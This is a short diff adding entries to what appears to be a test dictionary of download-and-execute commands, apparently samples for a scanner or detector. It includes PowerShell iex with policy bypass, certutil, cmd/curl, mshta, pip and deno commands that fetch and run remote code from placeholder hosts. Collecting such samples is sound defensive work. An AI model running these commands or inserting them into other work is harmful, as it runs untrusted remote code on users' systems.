@@ -58,6 +58,9 @@ DOWNLOAD_AND_RUN = {
     "powershell-flags-then-iex": 'powershell -ep bypass -w hidden -c "iex(iwr https://setup.invalid/a)"',
     "certutil-then-run": "certutil -urlcache -split -f http://203.0.113.3/a.exe a.exe && a.exe",
     "pip-from-an-ip": "pip install git+http://203.0.113.3/pkg.git",
+    "cmd-c": 'cmd /c "curl -s http://203.0.113.1/a.exe -o a.exe && a.exe"',
+    "mshta": "mshta http://203.0.113.1/a.hta",
+    "deno-run-url": "deno run -A https://x.invalid/mod.ts",
 }
 
 
